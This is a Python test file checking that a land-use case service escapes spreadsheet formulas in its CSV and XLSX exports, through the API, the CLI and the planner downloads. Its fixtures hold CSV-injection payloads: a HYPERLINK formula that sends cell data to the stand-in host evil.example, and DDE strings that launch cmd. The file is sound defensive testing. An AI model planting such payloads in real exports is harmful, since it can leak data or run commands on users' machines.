"""CSV and XLSX exports never carry a formula (#14): text a clerk typed that starts like one (= + - @, or a tab or
carriage return) is written with a leading apostrophe, in every export — the conversion audit, the monthly
statistics as CSV and XLSX, over the API and from the command line."""

import csv
import io

from openpyxl import load_workbook
from typer.testing import CliRunner

from service.cli.app import app as cli
from service.core.spreadsheets import csv_text, safe_cell
from service.reports.statistics import monthly_statistics
from tests import test_statistics
from tests.test_conversions import build
from tests.test_statistics import MARCH, build_march

window = test_statistics.window

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
TAB = "\t=1+1"
CR = "\r=1+1"


def test_every_formula_start_is_neutralised():
    for text in (HYPERLINK, DDE, PLUS, MINUS, TAB, CR):
        assert safe_cell(text) == "'" + text
    for value in ("向阳镇", "a=b", " =1", 5, -3.5, None, ""):
        assert safe_cell(value) == value  # numbers stay numbers (a negative area is a number, not text)
    rows = list(csv.reader(io.StringIO(csv_text([["名称", HYPERLINK, -3.5, TAB]]))))
    assert rows == [["名称", "'" + HYPERLINK, "-3.5", "'" + TAB]]


def test_the_conversion_audit_csv(window, api, conn):
    c = build(window)
    window.s.commit()
    conn.execute("UPDATE cases SET township = %s WHERE case_no = %s", (HYPERLINK, c["A"].case_no))
    conn.execute("UPDATE cases SET township = %s WHERE case_no = %s", (DDE, c["B"].case_no))
    conn.commit()
    r = api.get("/api/v1/conversions/audit.csv", as_="planner")
    assert r.status_code == 200, r.text
    rows = {row[0]: row for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig")))}
    assert rows[c["A"].case_no][2] == "'" + HYPERLINK and rows[c["B"].case_no][2] == "'" + DDE
    assert float(rows[c["A"].case_no][7]) > 0  # the figures stay numbers


def _hostile_names(conn):
    conn.execute("UPDATE users SET display_name = %s WHERE username = 'clerk2'", (PLUS,))
    conn.execute("UPDATE users SET display_name = %s WHERE username = 'clerk'", (TAB,))
    conn.execute("UPDATE townships SET name = %s WHERE name = '向阳镇'", (HYPERLINK,))
    conn.commit()


def test_the_monthly_statistics_csv_and_xlsx(window, conn):
    build_march(window)
    _hostile_names(conn)
    stats = monthly_statistics(window.s, MARCH)
    table, conversions = stats.csv_text().split("\r\n\r\n")
    names = [row[1] for row in list(csv.reader(io.StringIO(table)))[2:]]
    assert "'" + PLUS in names and "'" + TAB in names and not any(n.startswith(("+", "\t")) for n in names)
    towns = [row[0] for row in list(csv.reader(io.StringIO(conversions)))[2:] if row]
    assert towns == ["'" + HYPERLINK, "桂花镇"]

    wb = load_workbook(io.BytesIO(stats.xlsx_bytes()))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # not one formula in the workbook
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'" + PLUS, "'" + TAB, "'" + HYPERLINK} <= texts
    assert not {PLUS, TAB, HYPERLINK} & texts


def test_the_monthly_downloads_over_the_api_and_the_command(window, api, conn, cli_db, tmp_path):
    build_march(window)
    window.s.commit()
    _hostile_names(conn)
    r = api.get("/api/v1/reports/monthly.csv?month=2026-03", as_="leader")
    assert r.status_code == 200
    cells = {c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row}
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    r = api.get("/api/v1/reports/monthly.xlsx?month=2026-03", as_="leader")
    sheet = load_workbook(io.BytesIO(r.content))["转用面积 Conversions"]
    assert sheet["A3"].value == "'" + HYPERLINK and sheet["A3"].data_type == "s"
    out = CliRunner().invoke(cli, ["report", "monthly", "--month", "2026-03", "--format", "csv"])
    assert out.exit_code == 0 and "'" + PLUS in out.output


def test_the_planners_conversion_list_csv_and_xlsx(window, client, staff, conn):
    from tests.support.api import session_cookie

    c = build(window)
    window.s.commit()
    conn.execute("UPDATE cases SET township = %s, village = %s WHERE case_no = %s", (HYPERLINK, DDE, c["A"].case_no))
    conn.execute("UPDATE cases SET township = %s WHERE case_no = %s", (MINUS, c["C"].case_no))
    conn.commit()
    session_cookie(client, "planner", staff["planner"]["password"])
    r = client.get("/planner/conversions.csv")
    assert r.status_code == 200, r.text[:300]
    cells = {cell for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for cell in row}
    assert {"'" + HYPERLINK, "'" + DDE, "'" + MINUS} <= cells and not {HYPERLINK, DDE, MINUS} & cells
    r = client.get("/planner/conversions.xlsx")
    wb = load_workbook(io.BytesIO(r.content))
    all_cells = [cell for ws in wb for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in all_cells if cell.data_type == "f"]
    texts = {cell.value for cell in all_cells if isinstance(cell.value, str)}
    assert {"'" + HYPERLINK, "'" + DDE, "'" + MINUS} <= texts and not {HYPERLINK, DDE, MINUS} & texts
